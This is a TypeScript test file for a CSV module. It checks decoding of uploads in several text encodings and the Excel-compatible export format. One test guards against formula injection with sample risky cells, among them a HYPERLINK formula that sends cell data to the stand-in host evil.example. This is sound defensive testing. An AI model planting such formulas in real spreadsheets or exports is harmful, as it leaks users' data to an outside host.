import { parse } from "csv-parse/sync";
import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { decodeUpload, toExcelCsv } from "./csv.server";

describe("decodeUpload", () => {
  const text = "Nombre,Año\nJosé Ñahui,1950\n";
  it("reads UTF-8 with and without BOM", () => {
    expect(decodeUpload(new TextEncoder().encode(text))).toBe(text);
    expect(decodeUpload(new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(text)]))).toBe(text);
  });
  it("reads UTF-16 LE (with or without BOM) and BE", () => {
    expect(decodeUpload(new Uint8Array([0xff, 0xfe, ...iconv.encode(text, "utf16le")]))).toBe(text);
    expect(decodeUpload(new Uint8Array(iconv.encode(text, "utf16le")))).toBe(text);
    expect(decodeUpload(new Uint8Array([0xfe, 0xff, ...iconv.encode(text, "utf16be")]))).toBe(text);
  });
  it("falls back to Windows-1252", () => {
    expect(decodeUpload(new Uint8Array(iconv.encode(text, "win1252")))).toBe(text);
  });
});

describe("toExcelCsv", () => {
  it("starts with a BOM, quotes where needed and ends lines with CRLF", () => {
    expect(
      toExcelCsv(
        ["Nombre", "Nota"],
        [
          ["Ana, la de Puno", null],
          ["José", 3],
        ],
      ),
    ).toBe('\uFEFFNombre,Nota\r\n"Ana, la de Puno",\r\nJosé,3\r\n');
  });
});

describe("toExcelCsv and formulas", () => {
  it("puts a single quote before text cells that a spreadsheet would run, and leaves numbers alone", () => {
    const risky = [
      '=HYPERLINK("http://evil.example/?d="&B2,"Ver")',
      "+51987654321",
      "-1",
      "@SUM(A1)",
      "\t=1+1",
      "\r=1+1",
      "\uFF1D1+1",
    ];
    const csv = toExcelCsv(["Nombre", "Nota"], [...risky.map((name) => [name, -3]), ["Ana", 2.5]]);
    const rows = parse(csv, { bom: true }) as string[][];
    expect(rows.slice(1).map((row) => row[0])).toEqual([...risky.map((name) => `'${name}`), "Ana"]);
    expect(rows.slice(1).map((row) => row[1])).toEqual([...risky.map(() => "-3"), "2.5"]);
  });
});
